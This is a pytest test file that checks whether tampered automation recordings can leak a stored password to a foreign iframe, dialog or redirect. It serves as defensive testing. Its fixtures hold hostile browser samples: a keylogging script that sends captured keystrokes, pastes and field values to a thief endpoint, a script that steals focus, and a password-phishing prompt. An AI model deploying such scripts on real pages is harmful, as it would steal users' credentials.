"""Promise 5, against a tampered recording: a secret goes into the field that the sentence means, on its own origin, or nowhere."""

import copy
import json
import re

import pytest

from pytest_stagehand._recording.methods import METHODS
from pytest_stagehand._recording.paths import recording_path
from tests.support.models import keys, options
from tests.support.site import Site, served

SECRET = "hunter2-correct-horse"
LISTENS = """<script>
    const tell = (what) => { const x = new XMLHttpRequest(); x.open('GET', `/got?from=${location.search.slice(1)}&v=${encodeURIComponent(what)}`, false); x.send(); };
    for (const type of ['input', 'keydown', 'change', 'paste', 'drop'])
      addEventListener(type, (event) => {
        const file = event.target.type === 'file' ? [...event.target.files].map((each) => each.name).join() : '';
        tell(file || event.clipboardData?.getData('text') || event.dataTransfer?.getData('text') || (event.key ?? '') || event.target.value || event.target.textContent);
      }, true);
</script>"""
AD = "<label>Note <input id=note></label>"
STEALS = "<script>setInterval(() => note.focus(), 1); addEventListener('message', () => note.focus());</script>"
TALKS = """<p id=asked></p>
    <script>const said = prompt('Your password?'); if (said) tell(said); asked.textContent = 'Asked'</script>"""
FORM = "<label>Password <input type=password id=password></label> <label>Name <input id=name></label>"
PAGE = """<title>Shop</title><h1>Log in</h1><button onclick="{start}">Start</button> <a href=#x tabindex=0 id=more {more}>More</a>
    {form} <iframe title=Ad id=ad {ad}></iframe>"""
TESTS = """
    import os
    import pytest
    from pytest_stagehand import Secret

    @pytest.mark.parametrize("case", os.environ["CASES"].split())
    def test_log_in(page, stagehand, case):
        page.set_default_timeout(15000 if case in ("honest", "steals-by-time") else 2500)
        stagehand.variables["password"] = Secret(os.environ["SHOP_PASSWORD"])
        page.goto(f"/{case}")
        page.frame_locator("#ad").get_by_label("Note").wait_for()
        page.act("click Start")
        page.act("type %password% into Password")
        if case == "honest":
            page.act("click More")
            page.act("fill Name with Ada")
            page.act("fill Note with hello")
        if case == "steals-by-time":
            assert page.locator("#password").input_value() == os.environ["SHOP_PASSWORD"]
        if case in ("told-in-a-dialog-of-the-next-page", "told-in-a-dialog-later"):
            page.get_by_text("Asked").wait_for()
        if case == "told-in-a-dialog-of-a-frame":
            page.frame_locator("#ad").get_by_text("Asked").wait_for()
        page.wait_for_timeout(100)
"""


class Recorded:
    """The operations of an honest recording, to be put together otherwise."""

    def __init__(self, steps):
        self.steps = steps
        self.start, self.secret, self.more, self.name, self.note = (step["actions"][0] for step in steps[:5])
        self.frame = self.note["target"]["frames"][0]

    def into(self, target, method="fill", argument="%password%", origin=""):
        """A secret for another target; none for `None`."""
        made = {"method": method, "description": "", "arguments": [argument]}
        made |= {"origin": origin} if origin is not None else {}
        return made | ({"target": target} if target is not None else {})

    def plain(self, action, method, *arguments):
        """Another operation on the target of one, without its effect."""
        made = {key: value for key, value in action.items() if key in ("description", "target")}
        return {"method": method, **made, **({"arguments": list(arguments)} if arguments else {})}


def page_of(thief, *, start="", more="", form=FORM, ad=None):
    return PAGE.format(start=start, more=more, form=form, ad=ad or f'src="{thief}/ad"')


ELSEWHERE = {
    "no-target-after-focus": lambda r: [r.plain(r.note, "focus"), r.into(None, "type")],
    "no-target-after-click": lambda r: [r.plain(r.note, "click"), r.into(None, "type")],
    "no-target-part-of-a-text": lambda r: [r.plain(r.note, "click"), r.into(None, "type", "my %password%!")],
    "no-target-no-origin": lambda r: [r.plain(r.note, "click"), r.into(None, "type", origin=None)],
    "no-target-pressed": lambda r: [r.plain(r.note, "click"), r.into(None, "press")],
    "no-target-scrolled": lambda r: [r.into(None, "scroll_by")],
    "filled-in-the-ad": lambda r: [r.into(r.note["target"])],
    "filled-in-the-ad-without-origin": lambda r: [r.into(r.note["target"], origin=None)],
    "typed-into-the-ad": lambda r: [r.into(r.note["target"], "type", origin="http://localhost")],
    "pressed-in-the-ad": lambda r: [r.into(r.note["target"], "press")],
    "chosen-in-the-ad": lambda r: [r.into(r.note["target"], "select_option")],
    "uploaded-to-the-ad": lambda r: [r.into(r.note["target"], "set_input_files", "../%password%")],
    "typed-at-the-frame-itself": lambda r: [r.plain(r.note, "focus"), r.into(r.frame, "type")],
    "filled-at-the-frame-itself": lambda r: [r.into(r.frame)],
    "typed-at-a-link-that-gives-the-focus-away": lambda r: [r.into(r.more["target"], "type")],
    "copied-and-pasted": lambda r: [
        r.into(r.name["target"]),
        r.plain(r.name, "press", "Control+A"),
        r.plain(r.name, "press", "Control+C"),
        r.plain(r.note, "press", "Control+V"),
    ],
    "cut-and-pasted-with-insert": lambda r: [
        r.into(r.name["target"], "type"),
        r.plain(r.name, "press", "ControlOrMeta+A"),
        r.plain(r.name, "press", "Shift+Delete"),
        r.plain(r.note, "focus"),
        {"method": "press", "arguments": ["Shift+Insert"]},
    ],
    "dragged": lambda r: [
        r.into(r.name["target"]),
        r.plain(r.name, "press", "Control+A"),
        r.plain(r.name, "drag_to") | {"to": r.note["target"]},
    ],
    "told-in-a-dialog-of-the-next-page": lambda r: [
        r.into(None, "accept_dialog", origin=None),
        r.plain(r.start, "click"),
    ],
    "told-in-a-dialog-of-a-frame": lambda r: [r.into(None, "accept_dialog", origin=None), r.plain(r.start, "click")],
    "told-in-a-dialog-of-a-popup": lambda r: [r.into(None, "accept_dialog", origin=None), r.plain(r.start, "click")],
    "told-in-a-dialog-later": lambda r: [r.into(None, "accept_dialog"), r.plain(r.more, "click")],
    "sandboxed": lambda r: [r.into(r.note["target"])],
    "data-address": lambda r: [r.into(r.note["target"])],
    "after-a-click-that-leads-away": lambda r: [r.plain(r.start, "click"), r.secret],
    "field-that-leads-away": lambda r: [r.plain(r.secret, "click"), r.secret],
    "focus-that-leads-away": lambda r: [r.secret],
    "bad-origin-with-user": lambda r: [r.into(r.note["target"], origin="http://a@localhost")],
    "bad-origin-null": lambda r: [r.into(r.note["target"], origin="null")],
    "bad-origin-about": lambda r: [r.into(r.note["target"], origin="about:")],
}
"""What the second step of a recording, `type %password% into Password`, was made to do."""
UNSAID = {
    "unsaid-filled": lambda r: [r.into(r.name["target"])],
    "unsaid-typed": lambda r: [r.into(r.name["target"], "type", "a%password%")],
    "unsaid-as-well": lambda r: [r.start, r.into(r.secret["target"])],
}
"""What the first step, `click Start`, was made to do."""
STOLEN = {
    "steals-by-time": lambda r: [r.secret],
    "steals-while-typing": lambda r: [r.secret | {"method": "type"}],
    "steals-on-focus": lambda r: [r.secret],
}
"""Honest recordings, on pages where a frame takes the focus."""
NOTHING_GIVEN = {"steals-by-time", "told-in-a-dialog-of-a-popup", "accept-dialog-nowhere"}
"""Cases in which nothing has to be refused: it went into its field all the same, or nobody asked for it."""
EVERY_METHOD = {
    f"{method}-{where}".replace("_", "-"): (method, where) for method in METHODS for where in ("ad", "nowhere")
}


def every_method(recorded, method, where):
    """A secret as whatever operand a method has, or as one that it has not."""
    to = {"to": recorded.note["target"]} if method == "drag_to" else {}
    return [
        recorded.plain(recorded.note, "click"),
        recorded.into(recorded.note["target"] if where == "ad" else None, method) | to,
    ]


def put_pages(site: Site, thief: str, other: str):
    """Pages with a frame of the thief's, under the application's host name (in its process) or, every second one, another."""
    cases = ("honest", *ELSEWHERE, *UNSAID, *STOLEN, *EVERY_METHOD)
    site.pages |= {f"/{case}": page_of((thief, other)[at % 2]) for at, case in enumerate(cases)}
    away = f"location = '{thief}/form'"
    site.pages |= {
        "/typed-at-a-link-that-gives-the-focus-away": page_of(thief, more='onfocus="ad.contentWindow.focus()"'),
        "/told-in-a-dialog-of-the-next-page": page_of(thief, start=f"location = '{thief}/asks'"),
        "/told-in-a-dialog-of-a-frame": page_of(thief, start=f"ad.src = '{thief}/asks'"),
        "/told-in-a-dialog-of-a-popup": page_of(thief, start=f"window.open('{thief}/asks')"),
        "/told-in-a-dialog-later": page_of(
            thief, more=f"""onclick="setTimeout(() => {{ location = '{thief}/asks' }})" """
        ),
        "/sandboxed": page_of(thief, ad=f"sandbox=\"allow-scripts\" srcdoc='{AD}'"),
        "/data-address": page_of(thief, ad=f'src="data:text/html,{AD}"'),
        "/after-a-click-that-leads-away": page_of(thief, start=away),
        "/field-that-leads-away": page_of(thief, form=FORM.replace("id=password", f'id=password onclick="{away}"')),
        "/focus-that-leads-away": page_of(thief, form=FORM.replace("id=password", f'id=password onfocus="{away}"')),
        "/steals-by-time": page_of(thief, ad=f'src="{thief}/steals"'),
        "/steals-while-typing": page_of(thief, ad=f'src="{thief}/steals"').replace(
            "id=password", "id=password oninput=\"ad.contentWindow.postMessage('now', '*')\""
        ),
        "/steals-on-focus": page_of(thief).replace("id=password", 'id=password onfocus="ad.contentWindow.focus()"'),
    }
    for path, page in site.pages.items():
        site.pages[path] = re.sub(r"(?<=/)(ad|asks|form|steals)(?=[\"'])", rf"\1?{path[1:]}", page)


@pytest.fixture
def thief():
    with served() as site:
        site.pages |= {
            "/ad": AD + LISTENS,
            "/steals": AD + LISTENS + STEALS,
            "/asks": LISTENS + TALKS,
            "/form": page_of(site.url) + LISTENS,
            "/got": "",
        }
        yield site


def write(project, case, steps, test="test_log_in"):
    path = recording_path(project.path / "test_it.py", test, params=[("", case)] if case else [])
    told = {"schema": 1, "test": f"test_it.py::{test}" + (f"[{case}]" if case else ""), "steps": steps}
    project.write(path.relative_to(project.path).as_posix(), json.dumps(told))


def tampered(honest, case, actions, *, step=1):
    """The first two steps of the honest recording at another address, one of them made to do something else."""
    steps = copy.deepcopy(honest[:2])
    steps[step]["actions"] = actions
    for each in steps:
        each["route"] = f"/{case}"
        for action in each["actions"]:
            action.pop("effect", None)
    return steps


def test_a_tampered_recording_gives_no_secret_to_another_origin(project, thief, monkeypatch):
    monkeypatch.setenv("SHOP_PASSWORD", SECRET)
    monkeypatch.setenv("CASES", "honest")
    put_pages(project.site, thief.url, thief.url.replace("127.0.0.1", "localhost"))
    project.test(TESTS)
    assert project.run().outcomes == {"test_log_in[honest]": "passed"}
    recorded = Recorded(json.loads(next(project.path.rglob("test_log_in*.json")).read_text())["steps"])
    thief.requests.clear()
    cases = {case: make(recorded) for case, make in {**ELSEWHERE, **STOLEN}.items()}
    cases |= {case: every_method(recorded, *how) for case, how in EVERY_METHOD.items()}
    for case, actions in cases.items():
        write(project, case, tampered(recorded.steps, case, actions))
    for case, make in UNSAID.items():
        write(project, case, tampered(recorded.steps, case, make(recorded), step=0))
    monkeypatch.setenv("CASES", " ".join([*cases, *UNSAID]))
    run = project.replay("-n", "2")
    assert len(run.outcomes) == len(cases) + len(UNSAID)
    got = {request.query["from"] for request in thief.requests if request.path == "/got" and request.query["v"]}
    passed = {name.partition("[")[2][:-1] for name, outcome in run.outcomes.items() if outcome == "passed"}
    assert (got, passed) == (set(), NOTHING_GIVEN)
    assert SECRET not in run.text


FOCUSED = """<title>Shop</title><h1>Log in</h1><iframe id=own src="/inner"></iframe> <x-y id=host></x-y>
    <label>Name <input id=name></label> <p id=said></p>
    <button onclick="said.textContent = prompt('Your password?') === null ? 'Nothing' : 'Welcome'">Ask</button>
    <script>host.attachShadow({mode: 'open'}).innerHTML = '<label>Phrase <input id=phrase></label>'</script>"""
HONEST = """
    import os
    import pytest
    from pytest_stagehand import Secret, StagehandError

    @pytest.fixture
    def shop(page, stagehand):
        page.set_default_timeout(15000)
        stagehand.variables["password"] = Secret(os.environ["SHOP_PASSWORD"])
        page.goto("/")
        page.frame_locator("#own").locator("input").wait_for()
        return page

    def value(shop, selector, frame=None):
        return (shop.frame_locator(frame) if frame else shop).locator(selector).input_value()

    @pytest.mark.parametrize("where", ["#name", "#phrase", "#own"])
    def test_focused(shop, where):
        field = shop.frame_locator(where).locator("input") if where == "#own" else shop.locator(where)
        field.focus()
        shop.act("let it have %password%")
        assert field.input_value() == os.environ["SHOP_PASSWORD"]

    @pytest.mark.parametrize("where", ["nothing", "button", "foreign"])
    def test_not_focused(shop, where):
        if where == "button":
            shop.locator("button").focus()
        if where == "foreign":
            shop.goto("/foreign")
            shop.frame_locator("#ad").locator("input").focus()
        with pytest.raises(StagehandError, match="has the focus|no field|was not filled in"):
            shop.act("let it have %password%")

    def test_dialog(shop):
        shop.act("accept the dialog with %password%")
        shop.act("click Ask")
        assert shop.locator("#said").inner_text() == "Welcome"

    def test_allowed(shop):
        shop.goto("/foreign")
        shop.act("type %password% into Card")

    def test_text_that_was_told_to_be_secret(shop, stagehand):
        stagehand.add_secret("ada@example.com")
        shop.act("fill Name with %given%", variables={"given": "ada@example.com"})
        assert value(shop, "#name") == "ada@example.com"
"""


def test_an_honest_recording_gives_it_to_the_field_that_had_the_focus_and_to_dialogs_of_the_page(
    project, thief, model, monkeypatch
):
    monkeypatch.setenv("SHOP_PASSWORD", SECRET)
    allowed = thief.url.replace("127.0.0.1", "localhost")
    project.write(
        "pytest.ini", f"[pytest]\nstrict = true\nstagehand_screenshots = off\nstagehand_secret_origins = {allowed}\n"
    )
    thief.pages["/card"] = "<label>Card <input></label>"
    project.site.pages |= {
        "/": FOCUSED,
        "/inner": "<label>Inner <input></label>",
        "/foreign": f'<iframe id=ad title=Ad src="{thief.url}/ad"></iframe> <iframe title=Card src="{allowed}/card"></iframe>',
    }
    decided = {"actions": [{"method": "type", "node": None, "to_node": None, "arguments": ["%password%"]}]}
    model.on("act", "let it have %password%", decided | {"remaining": "", "unsure": None})
    project.test(HONEST)
    recorded = project.run("-k", "not test_not", *options(model, before="local,"), **keys())
    assert set(recorded.outcomes.values()) == {"passed"}, recorded.text
    recordings = {path.stem: json.loads(path.read_text()) for path in project.path.rglob("__recordings__/*/*.json")}
    told = [
        (each["target"]["fingerprint"]["name"], each["origin"])
        for name, found in recordings.items()
        if "focused" in name
        for each in found["steps"][0]["actions"]
    ]
    assert sorted(told) == [("Inner", ""), ("Name", ""), ("Phrase", "")]
    assert recordings["test_allowed"]["steps"][0]["actions"][0]["origin"] == "http://localhost"
    refused = project.run("-k", "test_not", *options(model, before="local,"), **keys())
    assert set(refused.outcomes.values()) == {"passed"}, refused.text
    replayed = project.replay("-k", "not test_not")
    assert set(replayed.outcomes.values()) == {"passed"}, replayed.text
    assert thief.told("/got", "v") == []
